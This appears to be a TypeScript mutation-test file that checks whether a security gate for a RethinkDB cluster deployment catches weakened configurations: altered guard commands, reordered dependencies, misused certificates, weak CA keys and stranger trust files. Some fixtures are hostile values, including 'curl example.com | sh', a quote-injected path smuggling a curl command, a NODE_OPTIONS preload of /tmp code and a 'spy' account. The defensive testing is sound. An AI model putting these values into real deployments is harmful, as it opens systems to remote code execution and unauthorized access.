/** Weakenings of the guards: what is run, what it is asked, and what it waits for. */
import { PASSWORD } from "../../support/recorded";
import { args, hand, inputs, options, remove } from "../change";
import { asked, changed, inCluster, urnIn, weak, type Weakening, words } from "./gate";

const COMMAND = "command:local:Command";
type Edited = Parameters<Parameters<typeof inputs>[0]>[0];
const on = (role: string, edit: (i: Edited) => unknown) => hand(inputs(edit, role));
const told = (role: RegExp, edit: Parameters<typeof asked>[0]) => hand(asked(edit, role));
const uiArgs = { webUi: { enabled: true }, webUiPassword: PASSWORD };
const users = {
  ...{ databases: ["shop"], users: [{ name: "api", grants: [{ db: "shop", read: true }] }] },
  userPasswords: { api: PASSWORD },
};
const later = (role: RegExp, ...names: readonly string[]) =>
  hand(
    changed(role, (resource, all) => {
      const gone = names.map((name) => urnIn(all, `db-${name}`));
      const dependencies = resource.options.dependencies.filter((urn) => !gone.includes(urn));
      return { ...resource, options: { ...resource.options, dependencies } };
    }),
  );
/** As earlier versions declared it: by the path of the programs. */
const path = (at: string) => (i: Edited) => {
  delete i["interpreter"];
  for (const when of ["create", "update", "delete"]) {
    if (typeof i[when] === "string" && i[when] !== ":") i[when] = `node '${at}' ${i[when]}`;
  }
};

export const programs: readonly Weakening[] = [
  weak(
    "a guard runs another program",
    "weakened",
    "program/command/update permit",
    on("n1-permit", (i) => (i["update"] = "true")),
  ),
  weak(
    "a guard runs nothing",
    "weakened",
    "program/command/update permit",
    on("n1-permit", (i) => (i["update"] = ":")),
  ),
  weak(
    "a guard runs another of the project's programs",
    "weakened",
    "program/command/update permit",
    on("n1-permit", (i) => (i["update"] = "member")),
  ),
  weak(
    "a guard is not run when something changes",
    "weakened",
    "program/command/update permit",
    on("n1-permit", (i) => delete i["update"]),
  ),
  weak(
    "a guard runs more behind itself",
    "weakened",
    "program/command/update fleet",
    on("fleet", (i) => (i["update"] = `${String(i["update"])}; curl example.com`)),
  ),
  weak("a guard comes from another folder", "weakened", "program/command", on("fleet", path("/tmp/dist/ops/main.js"))),
  weak(
    "a guard comes from a folder above",
    "weakened",
    "program/command",
    on("fleet", path("../elsewhere/dist/ops/main.js")),
  ),
  weak(
    "a guard comes from a package of another name",
    "weakened",
    "program/command",
    on("fleet", path("node_modules/pulumi-rethinkdb-fast/dist/ops/main.js")),
  ),
  weak(
    "a guard's path holds another command",
    "weakened",
    "program/command",
    on("fleet", path("x'; curl example.com; : '/node_modules/pulumi-rethinkdb/dist/ops/main.js")),
  ),
  weak(
    "a guard is run by another interpreter",
    "weakened",
    "program/command",
    on("fleet", (i) => (i["interpreter"] = ["/tmp/sh", "-c"])),
  ),
  weak(
    "a guard is looked for in other places",
    "weakened",
    "program/command",
    on("fleet", (i) => (i["interpreter"] = words(i["interpreter"]).map((w) => w.replace("plugins", "tmp")))),
  ),
  weak(
    "a guard is started as earlier, with nothing that looks for it",
    "weakened",
    "program/command",
    on("fleet", (i) => delete i["interpreter"]),
  ),
  weak(
    "a guard runs in another folder",
    "weakened",
    "input/other/dir",
    on("fleet", (i) => (i["dir"] = "/tmp")),
  ),
  weak(
    "a guard has a variable that loads other code",
    "weakened",
    "input/other/environment NODE_OPTIONS",
    on("fleet", (i) => (i.environment["NODE_OPTIONS"] = "--require /tmp/x.js")),
  ),
  weak(
    "a server leaves without being asked to",
    "weakened",
    "program/command/delete member",
    on("n2-member", (i) => delete i["delete"]),
  ),
  weak(
    "a server leaves by another program",
    "weakened",
    "program/command/delete member",
    on("n2-member", (i) => (i["delete"] = "true")),
  ),
  weak(
    "something runs when a guard is deleted",
    "weakened",
    "program/command/delete fleet",
    on("fleet", (i) => (i["delete"] = "leave")),
  ),
  weak(
    "the fleet is not judged when it is made",
    "weakened",
    "program/command/make fleet",
    on("fleet", (i) => (i["create"] = ":")),
  ),
  weak("a server has no permit", "weakened", "program/declared/permit", hand(remove("n1-permit"))),
  weak("no server has files prepared", "weakened", "program/declared/prepare", hand(remove(/^n\d+-prepare$/))),
  weak("the fleet has no judge", "weakened", "program/declared/fleet", hand(remove("fleet"))),
  weak("nothing moves data off servers that go", "weakened", "program/declared/departure", hand(remove("departure"))),
  weak("nothing sets admin's password", "weakened", "program/declared/admin", hand(remove("admin"))),
  weak("nothing writes lists of peers", "weakened", "program/declared/peers", hand(remove("peers"))),
  weak(
    "a leaving guard is skipped when its server goes",
    "weakened",
    "option/deleted-with",
    hand(changed(/^n1-member$/, (r, all) => ({ ...r, options: { ...r.options, deletedWith: urnIn(all, "db-n1") } }))),
  ),
  weak(
    "a data volume goes unasked with its server",
    "weakened",
    "option/deleted-with",
    hand(changed(/^n1-data$/, (r, all) => ({ ...r, options: { ...r.options, deletedWith: urnIn(all, "db-n1") } }))),
  ),
  weak(
    "changes of a guard are ignored",
    "weakened",
    "option/ignore-changes/stdin",
    hand(options(() => ({ ignoreChanges: ["stdin"] }), "fleet")),
  ),
  weak(
    "a data volume is deleted with its resource",
    "weakened",
    "volume/kept",
    hand(options(() => ({ retainOnDelete: false }), "n1-data")),
  ),
  weak(
    "a program's result is no secret any more",
    "weakened",
    "option/secret-result",
    hand(options(() => ({ secretOutputs: [] }), "admin")),
  ),
  weak(
    "a guard has another provider",
    "unknown",
    "option/provider",
    hand(options(() => ({ provider: "mine" }), "fleet")),
  ),
  weak(
    "a plugin comes from elsewhere",
    "weakened",
    "option/plugin",
    hand(options(() => ({ pluginUrl: "https://example.com" }), "n1")),
  ),
  weak(
    "nothing clears leftovers before a server",
    "weakened",
    "order/clears-leftovers",
    hand(options(() => ({ hooks: [] }), "n1")),
  ),
  weak(
    "nothing clears leftovers before the network",
    "weakened",
    "order/clears-leftovers",
    hand(options(() => ({ hooks: [] }), "network")),
  ),
  weak(
    "something more runs after a server was made",
    "weakened",
    "option/hook/afterCreate",
    hand(options((o) => ({ hooks: [...o.hooks, "afterCreate"] }), "n1")),
  ),
  weak(
    "something runs before the fleet is judged",
    "weakened",
    "option/hook/beforeUpdate",
    hand(options(() => ({ hooks: ["beforeUpdate"] }), "fleet")),
  ),
  weak(
    "a change of memory is made in place",
    "weakened",
    "order/replaced-on/memory",
    hand(options(() => ({ replaceOnChanges: [] }), "n1")),
  ),
  weak(
    "a CA is protected no more",
    "weakened",
    "option/protect",
    hand(),
    hand(options(() => ({ protect: true }), "driver-ca-g1")),
  ),
  weak("a server does not wait for its permit", "weakened", "order/after-permit", later(/^n1(-member)?$/, "n1-permit")),
  weak("a server does not wait for its files", "weakened", "order/after-files", later(/^n1(-permit)?$/, "n1-prepare")),
  weak(
    "a permit stops a server before its files are there",
    "weakened",
    "order/after-files",
    later(/^n1-permit$/, "n1-prepare"),
  ),
  weak(
    "a permit stops a server while another is away",
    "weakened",
    "order/after-lower",
    hand(
      changed(/^n1-permit$/, (r, all) => ({
        ...r,
        options: {
          ...r.options,
          dependencies: r.options.dependencies.filter((urn) => urn !== urnIn(all, "db-n0-member")),
        },
      })),
      changed(/^n1$/, (r, all) => ({
        ...r,
        options: { ...r.options, dependencies: [...r.options.dependencies, urnIn(all, "db-n0-member")] },
      })),
    ),
  ),
  weak(
    "membership is waited for before the server is there",
    "weakened",
    "order/member-after",
    later(/^n1-member$/, "n1"),
  ),
  weak(
    "files are prepared before the fleet is judged",
    "weakened",
    "order/after-judge",
    hand(
      options(
        (o) => ({ dependencies: o.dependencies.filter((urn) => !/-departure$/.test(urn)) }),
        /^(n1-(data|tls|prepare|cluster-.*|driver-.*)|network)$/,
      ),
    ),
  ),
  weak("data moves before the fleet is judged", "weakened", "order/after-judge", later(/^departure$/, "fleet")),
  weak("accounts are set before there is a server", "weakened", "order/program-after", later(/^admin$/, "n0")),
  weak(
    "peers are written before servers are members",
    "weakened",
    "order/program-after",
    later(/^peers$/, "n2-member"),
  ),
  weak(
    "a request with passwords is no secret",
    "weakened",
    "program/request-secret",
    on("admin", (i) => (i["stdin"] = "{}")),
  ),
  weak(
    "a program's output is shown",
    "weakened",
    "program/logging",
    on("admin", (i) => (i["logging"] = "stdout")),
  ),
  weak(
    "a password stands in the environment of a program",
    "weakened",
    "program/secret",
    on("admin", (i) => (i.environment["ADMIN_PASSWORD"] = "hunter2")),
  ),
  weak(
    "a secret stands in the text of a command",
    "weakened",
    "program/",
    on("admin", (i) => (i["update"] = "[secret]")),
  ),
  weak(
    "a last output is handed on in the environment",
    "unknown",
    "program/previous-output",
    on("n1-permit", (i) => (i["addPreviousOutputInEnv"] = true)),
  ),
  weak(
    "a new program of the cluster runs something else",
    "weakened",
    "program/command/make accounts",
    hand(inCluster(COMMAND, "db-accounts", { create: "curl example.com | sh", environment: {} })),
  ),
  weak(
    "a program that nobody knows is part of the cluster",
    "not judged",
    "spy",
    hand(inCluster(COMMAND, "db-spy", { create: "true" })),
  ),
];

export const requests: readonly Weakening[] = [
  weak(
    "the fleet is judged without one of its servers",
    "weakened",
    "request/fits/servers",
    told(/^fleet$/, (r) => (r["servers"] = (r["servers"] as object[]).slice(1))),
  ),
  weak(
    "peers are told of none of the servers",
    "weakened",
    "request/fits/servers",
    told(/^peers$/, (r) => (r["servers"] = [])),
  ),
  weak(
    "a guard is told what the args do not say",
    "unknown",
    "request/value/strictInterruption",
    told(/-permit$/, (r) => (r["strictInterruption"] = true)),
  ),
  weak(
    "peers are believed with certificates of the driver CA",
    "weakened",
    "trust/file/files.cluster-ca.pem",
    hand(
      changed(/^n1-prepare$/, (r) => {
        const files = r.request?.["files"] as Record<string, string>;
        return { ...r, request: { ...r.request, files: { ...files, "cluster-ca.pem": files["driver-ca.pem"] } } };
      }),
    ),
  ),
  weak(
    "peers are believed with certificates of either CA",
    "weakened",
    "trust/file/files.cluster-ca.pem",
    hand(
      changed(/^n1-prepare$/, (r) => {
        const files = r.request?.["files"] as Record<string, string>;
        const both = `${files["cluster-ca.pem"] ?? ""} ${(files["driver-ca.pem"] ?? "").replace("certificates: ", "")}`;
        return { ...r, request: { ...r.request, files: { ...files, "cluster-ca.pem": both } } };
      }),
    ),
  ),
  weak(
    "peers are believed with certificates of a stranger",
    "unknown",
    "trust/file/files.cluster-ca.pem",
    told(
      /^n1-prepare$/,
      (r) => (r["files"] = { ...(r["files"] as object), "cluster-ca.pem": "certificates: 0123456789abcdef" }),
    ),
  ),
  weak(
    "programs believe servers of a stranger",
    "unknown",
    "trust/file/operator.driverCa",
    told(
      /^n1-permit$/,
      (r) => (r["operator"] = { ...(r["operator"] as object), driverCa: "certificates: 0123456789abcdef" }),
    ),
  ),
  weak(
    "a server presents the certificate of another",
    "unknown",
    "trust/file/files.driver.pem",
    hand(
      changed(/^n1-prepare$/, (r, all) => {
        const other = all.find(({ name }) => name === "db-n0-driver-certificate")?.pem ?? [];
        return {
          ...r,
          request: {
            ...r.request,
            files: { ...(r.request?.["files"] as object), "driver.pem": `certificates: ${other.join(" ")}` },
          },
        };
      }),
    ),
  ),
  weak(
    "a server starts on data of an earlier cluster",
    "weakened",
    "request/fits/adopt",
    hand(
      asked((r) => (r["adopt"] = true), /^n1-prepare$/),
      inputs((i) => (i["allow"] = []), ""),
    ),
  ),
  weak(
    "a permit is asked under an override that nothing shows",
    "weakened",
    "override/allowed/lose-majority",
    told(/^n1-permit$/, (r) => (r["allow"] = ["lose-majority"])),
  ),
  weak(
    "data is moved under an override that nothing shows",
    "weakened",
    "override/allowed/abandon-data",
    told(/^departure$/, (r) => (r["allow"] = ["abandon-data"])),
  ),
  weak(
    "the fleet is judged under an override that nothing shows",
    "weakened",
    "override/allowed/lose-host",
    told(/^fleet$/, (r) => (r["allow"] = ["lose-host"])),
  ),
  weak(
    "the operator may write data",
    "weakened",
    "account/operator-right/write on table_status",
    told(
      /^admin$/,
      (r) =>
        (r["operatorRights"] = [
          ...(r["operatorRights"] as object[]),
          { table: "table_status", rights: { write: true } },
        ]),
    ),
  ),
  weak(
    "the operator may change accounts",
    "weakened",
    "account/operator-right/write on users",
    told(/^admin$/, (r) => (r["operatorRights"] = [{ table: "users", rights: { read: true, write: true } }])),
  ),
  weak(
    "a guard asks the engine of a stranger",
    "weakened",
    "request/",
    told(/^fleet$/, (r) => (r["dockerHost"] = "ssh://deploy@203.0.113.9")),
  ),
  weak(
    "a server's files belong to another uid",
    "weakened",
    "request/fits/uid",
    told(/^n1-prepare$/, (r) => (r["uid"] = 1000)),
  ),
  weak(
    "a program of the cluster runs as root",
    "weakened",
    "request/fits/uid",
    told(/^admin$/, (r) => (r["uid"] = 0)),
  ),
  weak(
    "a server's first start joins a stranger",
    "weakened",
    "request/stranger/seeds",
    told(/^n1-prepare$/, (r) => (r["seeds"] = ["203.0.113.9:29015"])),
  ),
  weak(
    "a server's first start joins nothing",
    "weakened",
    "request/seeds",
    told(/^n1-prepare$/, (r) => (r["seeds"] = [])),
  ),
  weak(
    "files go to a folder with which no server starts",
    "weakened",
    "request/fits/fingerprint",
    told(/^n1-prepare$/, (r) => (r["fingerprint"] = "0123456789abcdef")),
  ),
  weak(
    "a guard is told another make of the container",
    "weakened",
    "request/fits/spec",
    told(/^n1-permit$/, (r) => (r["spec"] = "0123456789abcdef")),
  ),
  weak(
    "a guard is told another cluster",
    "weakened",
    "request/fits/identity",
    told(/^n1-permit$/, (r) => (r["identity"] = "0123456789abcdef")),
  ),
  weak(
    "a guard looks at another container",
    "weakened",
    "request/fits/container",
    told(/^n1-permit$/, (r) => (r["container"] = "orders-n0")),
  ),
  weak(
    "a guard looks at another data volume",
    "weakened",
    "request/fits/dataVolume",
    told(/^n1-permit$/, (r) => (r["dataVolume"] = "orders-n0-data")),
  ),
  weak(
    "programs run in another image",
    "weakened",
    "request/fits/image",
    told(/^n1-prepare$/, (r) => (r["image"] = "evil:1.0.0")),
  ),
  weak(
    "a guard lets tables of one replica go away",
    "weakened",
    "request/fits/protectSingleReplicaTables",
    hand(
      inputs((i) => (i["protectSingleReplicaTables"] = true), "", "rethinkdb:index:RethinkdbCluster"),
      asked((r) => (r["protectSingleReplicaTables"] = false), /-permit$/),
    ),
  ),
  weak(
    "peers are told of a stranger",
    "weakened",
    "request/stranger/servers[].peer",
    told(/^peers$/, (r) => (r["servers"] = [{ name: "n0", tlsVolume: "orders-n0-tls", peer: "203.0.113.9:29015" }])),
  ),
  weak(
    "the network that is judged is another",
    "weakened",
    "request/stranger/network",
    told(/^fleet$/, (r) => (r["network"] = "web")),
  ),
  weak(
    "servers are given up beside what is declared",
    "weakened",
    "request/given-up",
    told(/^departure$/, (r) => (r["lost"] = ["n1"])),
  ),
  weak(
    "users have a right that is not shown",
    "weakened",
    "account/shown",
    args(
      users,
      asked(
        (r) =>
          (r["users"] = [{ name: "api", grants: [{ db: null, table: null, rights: { read: true, write: true } }] }]),
        /^accounts$/,
      ),
    ),
    args(users),
  ),
  weak(
    "one more user is let in than is shown",
    "weakened",
    "account/right/spy",
    args(
      users,
      asked(
        (r) =>
          (r["users"] = [
            ...(r["users"] as object[]),
            { name: "spy", grants: [{ db: "shop", table: null, rights: { read: true } }] },
          ]),
        /^accounts$/,
      ),
    ),
    args(users),
  ),
  weak(
    "one more user without rights is let in than is shown",
    "weakened",
    "account/shown",
    args(
      users,
      asked((r) => (r["users"] = [...(r["users"] as object[]), { name: "spy", grants: [] }]), /^accounts$/),
    ),
    args(users),
  ),
  weak(
    "another user logs in to the web UI than is shown",
    "weakened",
    "request/fits/user",
    args(
      uiArgs,
      asked((r) => (r["user"] = "spy"), /^ui-prepare$/),
    ),
    args(uiArgs),
  ),
  weak(
    "the web UI gets its files elsewhere",
    "weakened",
    "request/fits/fingerprint",
    args(
      uiArgs,
      asked((r) => (r["fingerprint"] = "0123456789abcdef"), /^ui-prepare$/),
    ),
    args(uiArgs),
  ),
  weak(
    "the web UI leads to a stranger's peers",
    "weakened",
    "request/stranger/peers",
    args(
      uiArgs,
      asked((r) => (r["peers"] = ["203.0.113.9:29015"]), /^ui-prepare$/),
    ),
    args(uiArgs),
  ),
  weak(
    "the web UI is good for a stranger's name",
    "weakened",
    "request/stranger/sans",
    args(
      uiArgs,
      asked((r) => (r["sans"] = { dnsNames: ["example.net"], ipAddresses: [] }), /^ui-prepare$/),
    ),
    args(uiArgs),
  ),
  weak(
    "a key stands where a certificate belongs",
    "weakened",
    "trust/file/files.driver.pem",
    hand(asked((r) => (r["files"] = { ...(r["files"] as object), "driver.pem": "[secret]" }), /^n1-prepare$/)),
  ),
];

const CERTIFICATE = "n1-driver-certificate";
const issuedBy = (role: RegExp, ca: string) =>
  changed(role, (r, all) => ({
    ...r,
    options: { ...r.options, propertyDependencies: { ...r.options.propertyDependencies, caCertPem: [urnIn(all, ca)] } },
  }));

export const certificates: readonly Weakening[] = [
  weak(
    "a server's certificate may sign others",
    "weakened",
    "certificate/is-ca",
    on(CERTIFICATE, (i) => (i["isCaCertificate"] = true)),
  ),
  weak(
    "a driver certificate is good for clients",
    "weakened",
    "certificate/use/client_auth",
    on(CERTIFICATE, (i) => i.allowedUses.push("client_auth")),
  ),
  weak(
    "a certificate is good for anything",
    "weakened",
    "certificate/use/any_extended",
    on(CERTIFICATE, (i) => i.allowedUses.push("any_extended")),
  ),
  weak(
    "the cluster CA signs a driver certificate",
    "weakened",
    "ca/other-purpose",
    hand(issuedBy(/^n1-driver-certificate$/, "db-cluster-ca-g1")),
  ),
  weak(
    "both CAs change places",
    "weakened",
    "certificate/issuer",
    hand(issuedBy(/-driver-certificate$/, "db-cluster-ca-g1"), issuedBy(/-cluster-certificate$/, "db-driver-ca-g1")),
  ),
  weak(
    "a stranger's CA, written into the program, signs",
    "weakened",
    "certificate/issuer",
    hand(changed(/^n1-cluster-certificate$/, (r) => ({ ...r, options: { ...r.options, propertyDependencies: {} } }))),
  ),
  weak(
    "a certificate is signed by another certificate",
    "weakened",
    "certificate/issuer",
    hand(issuedBy(/^n1-cluster-certificate$/, "db-n0-cluster-certificate")),
  ),
  weak(
    "a certificate is good for a stranger's address",
    "weakened",
    "certificate/name/203.0.113.9",
    on("n1-driver-request", (i) => (i["ipAddresses"] = [...words(i["ipAddresses"]), "203.0.113.9"])),
  ),
  weak(
    "a certificate has a stranger's name",
    "unknown",
    "certificate/subject",
    on("n1-driver-request", (i) => (i["subject"] = { commonName: "example.net" })),
  ),
  weak(
    "a CA lives shorter than what it signs",
    "weakened",
    "certificate/within-ca",
    on("driver-ca-g1", (i) => (i["validityPeriodHours"] = 24)),
  ),
  weak(
    "a CA is not renewed in time",
    "weakened",
    "ca/renewed",
    on("driver-ca-g1", (i) => delete i["earlyRenewalHours"]),
  ),
  weak(
    "the key of a CA is weak",
    "weakened",
    "key/strength",
    on("cluster-ca-g1-key", (i) => Object.assign(i, { algorithm: "RSA", rsaBits: 1024 })),
  ),
  weak(
    "a cluster certificate is not good for dialling",
    "weakened",
    "certificate/both-ends",
    on("n1-cluster-certificate", (i) => (i.allowedUses = i.allowedUses.filter((use) => use !== "client_auth"))),
  ),
  weak(
    "the cluster CA is another",
    "destroyed",
    "replace/cluster-ca",
    on("cluster-ca-g1", (i) => (i["validityPeriodHours"] = 24 * 3650 + 1)),
  ),
  weak("the operator's password is gone", "destroyed", "delete/operator", hand(remove("operator-g1"))),
  weak(
    "the cluster has another identity",
    "destroyed",
    "",
    on("identity", (i) => (i["rsaBits"] = 4096)),
  ),
];
